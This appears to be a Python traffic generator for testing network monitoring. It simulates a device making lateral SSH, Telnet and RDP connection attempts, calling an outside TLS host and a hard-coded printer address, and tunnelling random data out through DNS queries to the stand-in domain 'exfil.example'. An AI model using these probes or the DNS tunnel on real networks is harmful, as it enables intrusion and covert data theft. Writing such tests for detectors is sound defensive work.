"""Attacks that need no forged frame: a device calls what it has no business with."""

import base64
import os
import socket
from contextlib import closing

from parties import Parties

ATTEMPTS = 3
TIMEOUT_S = 0.4

# The first bytes a client of each service says.
SSH_BANNER = b"SSH-2.0-OpenSSH_9.2\r\n"
TELNET_WILL = bytes([255, 251, 31, 255, 251, 32, 255, 251, 24])
RDP_REQUEST = bytes.fromhex("030000130ee000000000000100080003000000")
TLS_HELLO_START = bytes.fromhex("16030100050100000100")
LPR_JOB = b"\x02patient\n"


def connect(parties: Parties, port: int, opening: bytes) -> int:
    """Connects a few times, and says the client's first words wherever someone answers."""
    for _ in range(ATTEMPTS):
        with closing(socket.socket(socket.AF_INET, socket.SOCK_STREAM)) as link:
            link.settimeout(TIMEOUT_S)
            try:
                link.connect((parties.target.ip, port))
                link.sendall(opening)
                link.recv(256)
            except OSError:
                # Refused, reset or never answered: whether it arrived is seen at the target.
                pass
    return ATTEMPTS


def dns_tunnel(parties: Parties) -> int:
    """Stolen data as labels of names, asked of a resolver nobody listed."""
    queries = 8
    with closing(socket.socket(socket.AF_INET, socket.SOCK_DGRAM)) as link:
        for number in range(queries):
            label = base64.b32encode(os.urandom(30)).rstrip(b"=").lower()
            link.sendto(query(number, [label, b"t", b"exfil", b"example"]), (parties.target.ip, 53))
    return queries + connect(parties, 53, query(99, [b"t", b"exfil", b"example"]))


def query(identifier: int, labels: list[bytes]) -> bytes:
    """A DNS question for a TXT record."""
    header = identifier.to_bytes(2, "big") + bytes.fromhex("01000001000000000000")
    name = b"".join(bytes([len(label)]) + label for label in labels) + b"\0"
    return header + name + bytes.fromhex("00100001")


ATTACKS = {
    "lateral-rdp": lambda parties: connect(parties, 3389, RDP_REQUEST),
    "lateral-ssh": lambda parties: connect(parties, 22, SSH_BANNER),
    "lateral-telnet": lambda parties: connect(parties, 23, TELNET_WILL),
    "outside-host": lambda parties: connect(parties, 443, TLS_HELLO_START),
    "hard-coded-address": lambda parties: connect(parties, 515, LPR_JOB),
    "dns-tunnel": dns_tunnel,
}
